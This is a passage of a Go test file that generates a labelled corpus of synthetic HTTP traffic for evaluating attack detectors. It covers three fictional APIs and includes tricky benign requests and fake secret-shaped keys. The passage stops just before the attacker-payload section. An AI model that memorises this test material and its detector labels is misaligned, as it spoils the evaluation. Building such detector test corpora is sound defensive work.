// Holdout corpus 10: an independent labelled test corpus for the stateless
// technique detectors of package detect, written from docs/detect.md and
// docs/traffic-format.md only (not from the detectors' code).
//
// It models one ordinary business day (from 2026-11-30 08:00 UTC) of three APIs:
//   - api.ladleline.test: a restaurant ordering and delivery POS (menus, orders,
//     kitchen tickets, couriers, tips, loyalty);
//   - api.docketrow.test: a legal case management API (matters, documents, time
//     entries, billing, court e-filing callbacks);
//   - api.procurant.test: a B2B procurement and invoicing API (suppliers,
//     purchase orders, invoices with line items, EDI/XML and CSV uploads,
//     approval workflows).
//
// Most traffic is benign and deliberately hard (SQL words in prose, quotes in
// dish names, legal citations, markup in descriptions, templates, public
// URLs, masked cards, test keys, OAuth token responses, expired tokens
// answered 401, large but legal page sizes); a few actors probe and exploit.
// labels.jsonl lists, for each exchange, every stateless detector that should
// report it.
//
// Regenerate with: go test ./detect/ -run TestHoldout10Generate -update-holdout10
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateHoldout10 = flag.Bool("update-holdout10", false, "rewrite detect/testdata/holdout10 from its generator")

const (
	h10POS   = "api.ladleline.test"
	h10Legal = "api.docketrow.test"
	h10Proc  = "api.procurant.test"

	h10SQLi  = "detect.injection.sqli"
	h10XSS   = "detect.injection.xss"
	h10Other = "detect.injection.other"
	h10SSRF  = "detect.ssrf"
	h10JWT   = "detect.auth.jwt"
	h10Verb  = "detect.misconfig.verbose"
	h10Sens  = "detect.exposure.sensitive"
	h10Res   = "detect.resource.limits"
)

var h10Base = time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC)

var h10Key = []byte("h10-fixed-hs256-signing-key-for-corpus-only")

type h10Client struct {
	Addr string `json:"addr"`
}

type h10Req struct {
	Method   string              `json:"method"`
	URL      string              `json:"url"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodySize int                 `json:"body_size"`
}

type h10Resp struct {
	Status   int                 `json:"status"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodySize int                 `json:"body_size"`
}

type h10Rec struct {
	ID         string    `json:"id"`
	Time       string    `json:"time"`
	Client     h10Client `json:"client"`
	Request    h10Req    `json:"request"`
	Response   h10Resp   `json:"response"`
	DurationMS float64   `json:"duration_ms"`
}

type h10Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

// h10Ev is one exchange before it gets its id and time.
type h10Ev struct {
	addr     string
	method   string
	url      string
	hdr      map[string][]string
	body     string
	bsize    int // request body_size when larger than body
	status   int
	rhdr     map[string][]string
	rbody    string
	detector []string
}

type h10User struct {
	sub, role, host, ua string
	ips                 []string
	tok                 string
}

func h10b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h10JWTRaw(header, claims string, sign bool) string {
	s := h10b64([]byte(header)) + "." + h10b64([]byte(claims))
	if !sign {
		return s
	}
	m := hmac.New(sha256.New, h10Key)
	m.Write([]byte(s))
	return s + "." + h10b64(m.Sum(nil))
}

func h10Token(sub, role, iss string, iat, nbf, exp time.Time) string {
	c := fmt.Sprintf(`{"iss":"%s","sub":"%s","role":"%s","iat":%d,"nbf":%d,"exp":%d}`, iss, sub, role, iat.Unix(), nbf.Unix(), exp.Unix())
	return h10JWTRaw(`{"alg":"HS256","typ":"JWT","kid":"2026-11-key_1"}`, c, true)
}

func h10ValidToken(sub, role, host string) string {
	return h10Token(sub, role, "https://"+host, h10Base.Add(-2*time.Hour), h10Base.Add(-2*time.Hour), h10Base.Add(72*time.Hour))
}

// h10Rand makes fake secret-shaped strings from a fixed alphabet.
func h10Rand(r *rand.Rand, n int, alphabet string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.Intn(len(alphabet))]
	}
	return string(b)
}

const (
	h10AlNum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	h10Upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	h10Hex   = "0123456789abcdef"
)

func h10JSONHdr() map[string][]string {
	return map[string][]string{"Content-Type": {"application/json; charset=utf-8"}, "Cache-Control": {"no-store"}}
}

func h10J(v any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

func h10Hdr(u *h10User, extra ...string) map[string][]string {
	h := map[string][]string{
		"Accept":        {"application/json"},
		"User-Agent":    {u.ua},
		"Authorization": {"Bearer " + u.tok},
	}
	for i := 0; i+1 < len(extra); i += 2 {
		h[extra[i]] = append(h[extra[i]], extra[i+1])
	}
	return h
}

func h10Luhn(num string) bool {
	sum, alt := 0, false
	for i := len(num) - 1; i >= 0; i-- {
		d := int(num[i] - '0')
		if alt {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		alt = !alt
	}
	return sum%10 == 0
}

// h10NonLuhn returns a 16-digit order number that fails the Luhn check.
func h10NonLuhn(r *rand.Rand) string {
	for {
		s := "7" + h10Rand(r, 15, "0123456789")
		if !h10Luhn(s) {
			return s
		}
	}
}

func h10Pick(r *rand.Rand, s []string) string { return s[r.Intn(len(s))] }

func h10XMLEsc(s string) string {
	var b strings.Builder
	for _, c := range s {
		switch c {
		case '&':
			b.WriteString("&amp;")
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '\'':
			b.WriteString("&apos;")
		case '"':
			b.WriteString("&quot;")
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func TestHoldout10Generate(t *testing.T) {
	r := rand.New(rand.NewSource(1010))
	users := h10Users(r)
	benign := h10Benign(r, users)
	attacks := h10Attacks(rand.New(rand.NewSource(2020)), users)

	// Merge the two streams, keeping each one's order.
	var evs []h10Ev
	bi, ai := 0, 0
	for bi < len(benign) || ai < len(attacks) {
		rb, ra := len(benign)-bi, len(attacks)-ai
		if ra == 0 || (rb > 0 && r.Intn(rb+ra) < rb) {
			evs = append(evs, benign[bi])
			bi++
		} else {
			evs = append(evs, attacks[ai])
			ai++
		}
	}

	var traffic, labels bytes.Buffer
	now := h10Base
	for i, e := range evs {
		now = now.Add(time.Duration(8000+r.Intn(30000)) * time.Millisecond)
		id := fmt.Sprintf("r%05d", i+1)
		hdr := e.hdr
		if e.body != "" {
			if _, ok := hdr["Content-Length"]; !ok {
				hdr["Content-Length"] = []string{fmt.Sprint(max(len(e.body), e.bsize))}
			}
		}
		rh := e.rhdr
		if rh == nil {
			rh = h10JSONHdr()
		}
		rh["Date"] = []string{now.Add(40 * time.Millisecond).Format(time.RFC1123)}
		rec := h10Rec{
			ID:     id,
			Time:   now.Format("2006-01-02T15:04:05.000Z07:00"),
			Client: h10Client{Addr: e.addr},
			Request: h10Req{Method: e.method, URL: e.url, Proto: "HTTP/1.1", Headers: hdr,
				Body: e.body, BodySize: max(len(e.body), e.bsize)},
			Response:   h10Resp{Status: e.status, Headers: rh, Body: e.rbody, BodySize: len(e.rbody)},
			DurationMS: float64(5+r.Intn(400)) + float64(r.Intn(10))/10,
		}
		traffic.WriteString(h10J(rec) + "\n")
		det := e.detector
		if det == nil {
			det = []string{}
		}
		labels.WriteString(h10J(h10Label{ID: id, Detectors: det}) + "\n")
	}
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout10"), *updateHoldout10, "go test ./detect/ -run TestHoldout10Generate -update-holdout10", traffic.Bytes(), labels.Bytes())
}

func h10Users(r *rand.Rand) []*h10User {
	chrome := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	safari := "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"
	edge := chrome + " Edg/131.0.0.0"
	firefox := "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
	uaPools := map[string][]string{
		h10POS: {"LadleLinePOS/4.12.0 (Android 14; SM-T738U)", "LadleLinePOS/4.12.0 (Android 13; SM-T733)", "LadleCourier/2.8.3 (iOS 18.1; iPhone15,2)",
			"LadleLine/5.1.0 (iPhone; iOS 18.1)", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", chrome},
		h10Legal: {"DocketRowDesktop/7.3.1 (Windows 11)", edge, safari, chrome, "DocketRowDesktop/7.3.0 (macOS 14.6)"},
		h10Proc:  {"procurant-erp-connector/3.4.0 (+https://procurant.test/connectors)", firefox, chrome, edge, "okhttp/4.12.0"},
	}
	type spec struct {
		host  string
		roles []string
		n     int
	}
	specs := []spec{
		{h10POS, []string{"cashier", "kitchen", "courier", "manager", "customer", "customer"}, 12},
		{h10Legal, []string{"attorney", "paralegal", "billing", "attorney", "clerk"}, 10},
		{h10Proc, []string{"buyer", "approver", "ap_clerk", "supplier", "integration"}, 10},
	}
	var us []*h10User
	n := 0
	for _, s := range specs {
		for i := 0; i < s.n; i++ {
			n++
			u := &h10User{
				sub:  fmt.Sprintf("u-%s-%04d", strings.Split(s.host, ".")[1][:4], 100+n*7),
				role: s.roles[i%len(s.roles)],
				host: s.host,
				ua:   uaPools[s.host][i%len(uaPools[s.host])],
			}
			u.ips = []string{fmt.Sprintf("198.51.100.%d", 10+n)}
			if n%3 == 0 {
				u.ips = append(u.ips, fmt.Sprintf("203.0.113.%d", 100+n))
			}
			u.tok = h10ValidToken(u.sub, u.role, u.host)
			us = append(us, u)
		}
	}
	return us
}

func h10Addr(r *rand.Rand, u *h10User) string {
	return fmt.Sprintf("%s:%d", u.ips[r.Intn(len(u.ips))], 40000+r.Intn(20000))
}

var (
	h10Dishes = []string{
		`Nonna's "Sunday" Lasagne`, `Fish 'n' Chips (2 pc)`, `Crème brûlée`, `Pad Kra Pao – extra 🌶️`,
		`1/2 Rack BBQ Ribs & Slaw`, `Select Chef's Tasting — 5 courses`, `Union Square Salad`,
		`Drop Biscuits w/ honey butter`, `Mac & Cheese (GF)`, `Kid's Meal #3: nuggets + juice`, `Pho Tái 24oz`,
		`"The Works" Pizza 16"`, `Tom Yum Goong (hot!)`, `Açaí Bowl`, `Half & Half Iced Tea`, `Order of Fries`,
	}
	h10Notes = []string{
		"Please DROP off at side door; ring bell twice", "no nuts!! severe allergy <3", "Cat; dog friendly patio please",
		"Leave with concierge, ask for O'Reilly", "extra napkins & 2 forks", "select any dessert, surprise me",
		"1=1 tips for the kitchen crew, you rock", "sauce on the side :)", "gate code is 4421#", "call when 5 min away",
		"Birthday! write 'Happy 40th, Sam' on the box", "no onions / no garlic (FODMAP)", "",
	}
	h10Citations = []string{
		"Brown v. Board of Education, 347 U.S. 483 (1954)", "42 U.S.C. § 1983", "Fed. R. Civ. P. 12(b)(6)",
		"Smith v. Jones, 123 F.3d 456, 459 (9th Cir. 1997)", "Cal. Civ. Code § 1542", "In re O'Malley's Estate, 2019 NY Slip Op 01234",
		"Tex. R. Evid. 803(6)", "U.C.C. § 2-207", "Marbury v. Madison, 5 U.S. (1 Cranch) 137 (1803)",
	}
	h10LegalNotes = []string{
		"Client's exception to the ruling was preserved at line 14 of the transcript.",
		"Opposing counsel produced logs showing a NullPointerException in their billing system; request native format.",
		"Call with client re: union grievance; select arbitrator from AAA panel by Friday.",
		"Draft motion to DROP the third count per client's instruction.",
		"Witness said the table was \"select seating only\" and 1=1 was a typo in the spreadsheet.",
		"Reviewed <b>exhibit 12</b> and the <i>privilege log</i>; 2 > 1 issues remain.",
		"Deadline: response due 12/14 (21 days after service under Rule 12(a)(1)(A)).",
		"Paralegal to pull docket from PACER and save under ../Pleadings/2026 on the shared drive.",
		"Tested the e-filing portal on localhost first per IT; works now.",
		"Per Fed. R. Evid. 502(d), clawback order entered; see ECF No. 44.",
	}
	h10Parts = []string{
		"M8x1.25-30 DIN 912 A2-70", "SKU#44-19/B", `3/4" NPT 90° elbow`, "HX-200/Ø12 (pack of 50)", "PN 7731-002-REV.C",
		"Union hardware select grade bolts", "Cable tie 4.8x300mm UV-black", "O-ring 25x3 NBR70 'FDA'", "ISO 4017 M10x40 8.8 zinc",
	}
	h10Suppliers = []string{
		"O'Neil & Sons Ltd.", `Smith-Jones "Industrial" Supply`, "Müller Präzisionstechnik GmbH", "Acme Fasteners, Inc.",
		"Nordic Steel AB", "Grupo Ferretero S.A. de C.V.", "Select Office Union Co.", "Drop Forge Works LLC",
	}
)

func h10Benign(r *rand.Rand, users []*h10User) []h10Ev {
	var out []h10Ev
	for len(out) < 1250 {
		u := users[r.Intn(len(users))]
		var e h10Ev
		switch u.host {
		case h10POS:
			e = h10BenignPOS(r, u, len(out))
		case h10Legal:
			e = h10BenignLegal(r, u, len(out))
		default:
			e = h10BenignProc(r, u, len(out))
		}
		if e.addr == "" {
			e.addr = h10Addr(r, u)
		}
		out = append(out, e)
	}
	return out
}

func h10Get(u *h10User, path string, rbody string) h10Ev {
	return h10Ev{method: "GET", url: "https://" + u.host + path, hdr: h10Hdr(u), status: 200, rbody: rbody}
}

func h10Send(u *h10User, method, path, body string, status int, rbody string) h10Ev {
	return h10Ev{method: method, url: "https://" + u.host + path, hdr: h10Hdr(u, "Content-Type", "application/json"), body: body, status: status, rbody: rbody}
}

func h10BenignPOS(r *rand.Rand, u *h10User, n int) h10Ev {
	dish := h10Pick(r, h10Dishes)
	id := 1000 + r.Intn(9000)
	switch r.Intn(16) {
	case 0, 1:
		q := url.Values{"search": {h10Pick(r, []string{"union jack burger", "select wines", "mac & cheese", "fish 'n' chips", "drop biscuits", "1/2 rack", "crème"})}, "limit": {fmt.Sprint(h10Pick(r, []string{"20", "50", "100"}))}}
		return h10Get(u, "/v2/menus/"+fmt.Sprint(1+r.Intn(6))+"/items?"+q.Encode(), h10J(map[string]any{"items": []any{map[string]any{"id": id, "name": dish, "price": "14.50", "description": "<p>House-made <b>ricotta</b> &amp; basil</p>"}}, "next_cursor": h10Rand(r, 24, h10AlNum)}))
	case 2, 3:
		body := h10J(map[string]any{"location_id": 3, "channel": "delivery", "items": []any{map[string]any{"menu_item_id": id, "name": dish, "qty": 1 + r.Intn(3), "modifiers": []string{"no onions", "extra sauce"}, "notes": h10Pick(r, h10Notes)}}, "delivery": map[string]any{"address": map[string]any{"line1": "221B Baker St, Apt #4", "city": "Springfield", "postcode": "62704"}, "instructions": h10Pick(r, h10Notes)}, "tip": map[string]any{"amount": "4.00", "currency": "USD"}})
		return h10Send(u, "POST", "/v2/orders", body, 201, h10J(map[string]any{"id": fmt.Sprintf("ord_%s", h10Rand(r, 20, h10AlNum)), "order_no": h10NonLuhn(r), "status": "accepted", "total": "38.20", "payment": map[string]any{"brand": "visa", "card": "**** **** **** 4242", "last4": "4242"}}))
	case 4:
		return h10Get(u, fmt.Sprintf("/v2/orders?status=open&sort=-created_at&per_page=%d&page=%d", 50, 1+r.Intn(4)), h10J(map[string]any{"data": []any{map[string]any{"id": id, "status": "in_kitchen", "total": "22.10"}}, "meta": map[string]any{"page": 1, "per_page": 50}}))
	case 5:
		return h10Send(u, "PATCH", fmt.Sprintf("/v2/kitchen/tickets/%d", id), h10J(map[string]any{"status": "fired", "station": "grill", "note": "86 the " + dish + " after this one"}), 200, h10J(map[string]any{"id": id, "status": "fired"}))
	case 6:
		return h10Get(u, fmt.Sprintf("/v2/couriers/%d/location", 20+r.Intn(40)), h10J(map[string]any{"lat": 39.78 + float64(r.Intn(100))/1000, "lng": -89.65, "eta_min": 7, "map_url": "https://tiles.openstreetmap.org/15/8192/12000.png"}))
	case 7:
		return h10Send(u, "POST", fmt.Sprintf("/v2/orders/%d/tips", id), h10J(map[string]any{"amount": "5.50", "percent": 18, "message": "Thanks! <3 you're the best"}), 201, h10J(map[string]any{"ok": true}))
	case 8:
		return h10Get(u, "/v2/loyalty/me", h10J(map[string]any{"member": u.sub, "points": 1200 + r.Intn(500), "tier": "gold", "email": "o'brien.k@example.com", "card_on_file": "visa •••• 1111"}))
	case 9:
		// Payment: client secret and publishable key are fine.
		return h10Send(u, "POST", fmt.Sprintf("/v2/orders/%d/payment-intent", id), `{"method":"card"}`, 200, h10J(map[string]any{"client_secret": fmt.Sprintf("pi_3Q%s_secret_%s", h10Rand(r, 22, h10AlNum), h10Rand(r, 25, h10AlNum)), "publishable_key": "pk_live_51" + h10Rand(r, 96, h10AlNum)}))
	case 10:
		// Expired token refused: the API working.
		old := h10Token(u.sub, u.role, "https://"+u.host, h10Base.Add(-200*time.Hour), h10Base.Add(-200*time.Hour), h10Base.Add(-100*time.Hour))
		e := h10Get(u, "/v2/loyalty/me", `{"error":"token_expired","message":"Your session has expired. Please sign in again."}`)
		e.hdr["Authorization"] = []string{"Bearer " + old}
		e.status = 401
		e.rhdr = h10JSONHdr()
		e.rhdr["Www-Authenticate"] = []string{`Bearer error="invalid_token", error_description="expired"`}
		return e
	case 11:
		// OAuth refresh: the client's own tokens.
		e := h10Ev{method: "POST", url: "https://" + u.host + "/oauth/token", hdr: map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}, "User-Agent": {u.ua}, "Accept": {"application/json"}},
			body: "grant_type=refresh_token&refresh_token=" + h10Rand(r, 43, h10AlNum) + "&client_id=pos-app", status: 200,
			rbody: h10J(map[string]any{"access_token": u.tok, "token_type": "Bearer", "expires_in": 3600, "refresh_token": h10Rand(r, 43, h10AlNum)})}
		return e
	case 12:
		// Public menu, wildcard CORS without credentials.
		e := h10Ev{method: "GET", url: "https://" + u.host + "/v2/public/menus/3", hdr: map[string][]string{"User-Agent": {u.ua}, "Origin": {"https://order.partner-eats.example"}, "Accept": {"application/json"}}, status: 200,
			rbody: h10J(map[string]any{"name": "Dinner", "items": []string{dish, h10Pick(r, h10Dishes)}})}
		e.rhdr = h10JSONHdr()
		e.rhdr["Access-Control-Allow-Origin"] = []string{"*"}
		return e
	case 13:
		// Own app origin reflected with credentials.
		e := h10Get(u, "/v2/orders/"+fmt.Sprint(id), h10J(map[string]any{"id": id, "status": "delivered", "items": []string{dish}}))
		e.hdr["Origin"] = []string{"https://app.ladleline.test"}
		e.rhdr = h10JSONHdr()
		e.rhdr["Access-Control-Allow-Origin"] = []string{"https://app.ladleline.test"}
		e.rhdr["Access-Control-Allow-Credentials"] = []string{"true"}
		return e
	case 14:
		return h10Send(u, "PUT", fmt.Sprintf("/v2/menus/3/items/%d", id), h10J(map[string]any{"name": dish, "price": "12.95", "description": "<p>Our <em>famous</em> dish &mdash; <a href=\"https://ladleline.test/story\">read the story</a></p>", "image_url": "https://cdn.ladleline.test/img/" + h10Rand(r, 16, h10Hex) + ".jpg", "tags": []string{"spicy", "gf"}}), 200, `{"ok":true}`)
	default:
		return h10Get(u, "/v2/reports/sales?from=2026-11-01&to=2026-11-30&limit=1000&group_by=day", h10J(map[string]any{"rows": 30, "total": "48211.90", "etag": map[string]any{"hash": h10Rand(r, 64, h10Hex)}}))
	}
}

func h10BenignLegal(r *rand.Rand, u *h10User, n int) h10Ev {
	matter := fmt.Sprintf("M-2026-%04d", 100+r.Intn(900))
	switch r.Intn(14) {
	case 0, 1:
		q := url.Values{"q": {h10Pick(r, []string{"O'Malley estate", "union grievance", "select committee subpoena", "Smith v. Jones", "§ 1983 claim", "drop shipment dispute"})}, "page_size": {"100"}}
		return h10Get(u, "/api/matters?"+q.Encode(), h10J(map[string]any{"results": []any{map[string]any{"id": matter, "title": "Smith v. Jones", "citation": h10Pick(r, h10Citations)}}, "page_size": 100}))
	case 2, 3:
		note := h10Pick(r, h10LegalNotes)
		return h10Send(u, "POST", "/api/matters/"+matter+"/notes", h10J(map[string]any{"body": note, "visibility": "team"}), 201, h10J(map[string]any{"id": r.Intn(99999), "body": note}))
	case 4, 5:
		return h10Send(u, "POST", "/api/time-entries", h10J(map[string]any{"matter_id": matter, "hours": 0.1 * float64(1+r.Intn(40)), "activity": "L120", "narrative": "Research " + h10Pick(r, h10Citations) + "; draft memo re: 'select' committee subpoena", "rate": "425.00"}), 201, `{"status":"recorded"}`)
	case 6:
		h := map[string][]string{"Content-Type": {"multipart/form-data; boundary=----h10bnd"}}
		body := "------h10bnd\r\nContent-Disposition: form-data; name=\"matter_id\"\r\n\r\n" + matter + "\r\n------h10bnd\r\nContent-Disposition: form-data; name=\"file\"; filename=\"Smith_v_Jones_Motion (final) [v3].pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 (binary omitted)\r\n------h10bnd--\r\n"
		e := h10Ev{method: "POST", url: "https://" + u.host + "/api/documents", hdr: h10Hdr(u), body: body, status: 201,
			rbody: h10J(map[string]any{"id": "doc_" + h10Rand(r, 16, h10AlNum), "file": map[string]any{"name": "Smith_v_Jones_Motion (final) [v3].pdf", "size": 482113 + r.Intn(100000), "checksum_sha256": h10Rand(r, 64, h10Hex)}, "upload_url": "https://docketrow-docs.s3.us-east-2.amazonaws.com/m/" + matter + "/v3.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261130%2Fus-east-2%2Fs3%2Faws4_request&X-Amz-Date=20261130T090000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=" + h10Rand(r, 64, h10Hex)})}
		for k, v := range h {
			e.hdr[k] = v
		}
		return e
	case 7:
		// Court e-filing callback from the court's public service.
		body := h10J(map[string]any{"envelope_id": "ENV-" + h10Rand(r, 10, "0123456789"), "status": "accepted", "court": "Superior Court of California, County of Sonoma", "filing_code": "MOT-12B6", "stamped_copy_url": "https://efile.courts.example.gov/stamped/" + h10Rand(r, 24, h10AlNum) + ".pdf", "message": "Filing accepted; hearing set 01/14/2027 8:30 AM Dept. 16"})
		return h10Ev{method: "POST", url: "https://" + u.host + "/api/efiling/callbacks", hdr: map[string][]string{"Content-Type": {"application/json"}, "User-Agent": {"CourtEFM/5.2 (Tyler-compatible)"}, "X-Efm-Signature": {"sha256=" + h10Rand(r, 64, h10Hex)}}, body: body, status: 204, addr: "203.0.113.200:443"}
	case 8:
		return h10Get(u, "/api/billing/invoices?matter_id="+matter+"&per_page=200", h10J(map[string]any{"invoices": []any{map[string]any{"number": "INV-2026-" + fmt.Sprint(1000+r.Intn(9000)), "total": "12,480.00", "trust_applied": "2,000.00"}}}))
	case 9:
		tpl := "Dear {{client_name}}, your hearing on {{hearing_date}} is confirmed. Total due: ${amount_due}."
		return h10Send(u, "PUT", "/api/templates/hearing-reminder", h10J(map[string]any{"subject": "Hearing reminder – {{matter_title}}", "body": tpl, "format": "text"}), 200, `{"saved":true}`)
	case 10:
		return h10Get(u, "/api/matters/"+matter+"/documents?sort=-filed_at&limit=1000", h10J(map[string]any{"documents": []any{map[string]any{"title": "Motion to Dismiss (" + h10Pick(r, h10Citations) + ")", "filed_at": "2026-11-12"}}}))
	case 11:
		return h10Send(u, "POST", "/api/billing/payments", h10J(map[string]any{"invoice": "INV-2026-4410", "amount": "1,250.00", "method": "card"}), 201, h10J(map[string]any{"status": "paid", "card": "4242 XXXX XXXX 4242", "receipt_url": "https://pay.docketrow.test/r/" + h10Rand(r, 20, h10AlNum)}))
	case 12:
		return h10Get(u, "/.well-known/jwks.json", h10J(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "2026-11-key_1", "use": "sig", "alg": "RS256", "n": h10Rand(r, 342, h10AlNum), "e": "AQAB"}}}))
	default:
		return h10Get(u, "/api/calendar?from=2026-11-30&to=2026-12-31&page=1450&per_page=50", h10J(map[string]any{"events": []any{map[string]any{"title": "Deposition – O'Neil", "location": "Conf. Rm \"B\""}}}))
	}
}

func h10BenignProc(r *rand.Rand, u *h10User, n int) h10Ev {
	part := h10Pick(r, h10Parts)
	sup := h10Pick(r, h10Suppliers)
	po := fmt.Sprintf("PO-%06d", 200000+r.Intn(99999))
	switch r.Intn(14) {
	case 0, 1:
		q := url.Values{"name": {sup}, "filter[total][$gt]": {"1000"}, "limit": {"250"}}
		return h10Get(u, "/api/v3/suppliers?"+q.Encode(), h10J(map[string]any{"suppliers": []any{map[string]any{"id": r.Intn(9999), "name": sup, "iban": "DE89 **** **** **** 3000", "vat_id": "DE129273398"}}}))
	case 2, 3:
		body := h10J(map[string]any{"supplier_id": r.Intn(9999), "currency": "EUR", "lines": []any{map[string]any{"part_no": part, "description": part + " – urgent", "qty": 1 + r.Intn(500), "unit_price": "1.234,56"}}, "notes": "Deliver to dock 3; select the union-approved carrier"})
		return h10Send(u, "POST", "/api/v3/purchase-orders", body, 201, h10J(map[string]any{"id": po, "status": "pending_approval"}))
	case 4:
		x := `<?xml version="1.0" encoding="UTF-8"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>INV-` + fmt.Sprint(r.Intn(99999)) + `</ID><IssueDate>2026-11-29</IssueDate><AccountingSupplierParty><Name>` + h10XMLEsc(sup) + `</Name></AccountingSupplierParty><InvoiceLine><ID>1</ID><Item><Description>` + h10XMLEsc(part) + `</Description></Item><Price currency="EUR">12.40</Price></InvoiceLine><Note>` + h10XMLEsc("Payment terms 2/10 net 30; where qty > 100 && price < 5 apply tier B") + `</Note></Invoice>`
		e := h10Ev{method: "POST", url: "https://" + u.host + "/api/v3/invoices/edi", hdr: h10Hdr(u, "Content-Type", "application/xml"), body: x, status: 202, rbody: `{"accepted":true,"lines":1}`}
		return e
	case 5:
		csv := "sku,description,qty,unit_price\n" + `"M8-30","Bolt, hex; DIN 912",500,0.12` + "\n" + `"PN-7731","O'Neil bracket ""left""",20,4.50` + "\n" + `"CT-300","Cable tie; select UV-black",1000,0.03` + "\n"
		h := map[string][]string{"Content-Type": {"multipart/form-data; boundary=h10csv"}}
		body := "--h10csv\r\nContent-Disposition: form-data; name=\"file\"; filename=\"catalog-2026-11.csv\"\r\nContent-Type: text/csv\r\n\r\n" + csv + "\r\n--h10csv--\r\n"
		e := h10Ev{method: "POST", url: "https://" + u.host + "/api/v3/catalog/import", hdr: h10Hdr(u), body: body, status: 202, rbody: `{"rows":3,"errors":[]}`}
		for k, v := range h {
			e.hdr[k] = v
		}
		return e
	case 6:
		return h10Send(u, "POST", "/api/v3/approvals/"+po+"/decision", h10J(map[string]any{"decision": "approve", "comment": "OK per policy: `if (total >= 5000 && !supplier.frozen)` needs CFO, this one doesn't."}), 200, `{"status":"approved"}`)
	case 7:
		return h10Send(u, "POST", "/api/v3/integrations/webhooks", h10J(map[string]any{"url": "https://hooks.partner-erp.example.com/procurant/" + h10Rand(r, 12, h10AlNum), "events": []string{"invoice.approved", "po.created"}, "fallback_url": "https://8.8.8.8/health"}), 201, h10J(map[string]any{"id": "wh_" + h10Rand(r, 14, h10AlNum), "signing_secret_file": "WEBHOOK_SECRET_FILE"}))
	case 8:
		return h10Get(u, "/api/v3/invoices?status=open&page[size]=500&page[number]=3", h10J(map[string]any{"data": []any{map[string]any{"id": "INV-" + fmt.Sprint(r.Intn(99999)), "supplier": sup, "amount": "€1.234,56"}}}))
	case 9:
		return h10Send(u, "POST", "/api/v3/invoices/search", h10J(map[string]any{"filter": map[string]any{"amount": map[string]any{"$gte": 500}, "status": map[string]any{"$in": []string{"open", "disputed"}}}, "sort": "due_date"}), 200, `{"data":[],"total":0}`)
	case 10:
		return h10Get(u, "/api/v3/settings/payments", h10J(map[string]any{"mode": "sandbox", "stripe_secret_key": "sk_test_51" + h10Rand(r, 96, h10AlNum), "restricted_key": "rk_test_51" + h10Rand(r, 60, h10AlNum), "db_password_file": "/run/secrets/DB_PASSWORD_FILE"}))
	case 11:
		return h10Send(u, "POST", "/api/v3/suppliers/"+fmt.Sprint(r.Intn(9999))+"/messages", h10J(map[string]any{"text": "Hi, the connector doc says run `sort -k2 invoices.csv | uniq` before upload, and to test against localhost before prod. Is that still right?"}), 201, `{"sent":true}`)
	case 12:
		return h10Send(u, "POST", "/api/v3/attachments/meta", h10J(map[string]any{"file": map[string]any{"name": "drawing-PN7731.pdf", "size": 5242880}, "max_amount": 25000, "top_supplier": sup}), 200, `{"ok":true}`)
	default:
		return h10Get(u, "/api/v3/purchase-orders/"+po, h10J(map[string]any{"id": po, "supplier": sup, "lines": []any{map[string]any{"part_no": part, "qty": 40}}, "approval_chain": []string{"buyer", "approver", "cfo"}, "audit_hash": h10Rand(r, 40, h10Hex)}))
	}
}

// h10Actor is an attacker: one network, one tool, an account of its own.
type h10Actor struct {
	addr, ua, tok string
}

const (
	h10AtQuery = iota
	h10AtJSON
	h10AtForm
	h10AtHeader
	h10AtCookie
	h10AtPath
	h10AtMultipart
	h10AtXML
	h10AtCount
)

// h10Inject puts payload p at place pl of an endpoint of host.
func h10Inject(a h10Actor, host string, pl int, p string, k int) h10Ev {
	base := "https://" + host
	hdr := map[string][]string{"User-Agent": {a.ua}, "Accept": {"application/json"}}
	if a.tok != "" {
		hdr["Authorization"] = []string{"Bearer " + a.tok}
	}
	e := h10Ev{addr: a.addr, hdr: hdr, status: 400, rbody: `{"error":"invalid_request","message":"The request could not be processed."}`}
	type ep struct{ q, qn, js, form, path, mp string }
	eps := map[string]ep{
		h10POS:   {"/v2/menus/3/items", "search", "/v2/orders", "/v2/loyalty/signup", "/v2/orders/", "/v2/menus/3/import"},
		h10Legal: {"/api/matters", "q", "/api/matters/M-2026-0412/notes", "/api/contacts", "/api/documents/", "/api/documents"},
		h10Proc:  {"/api/v3/suppliers", "name", "/api/v3/purchase-orders", "/api/v3/suppliers/register", "/api/v3/invoices/", "/api/v3/catalog/import"},
	}[host]
	switch pl {
	case h10AtQuery:
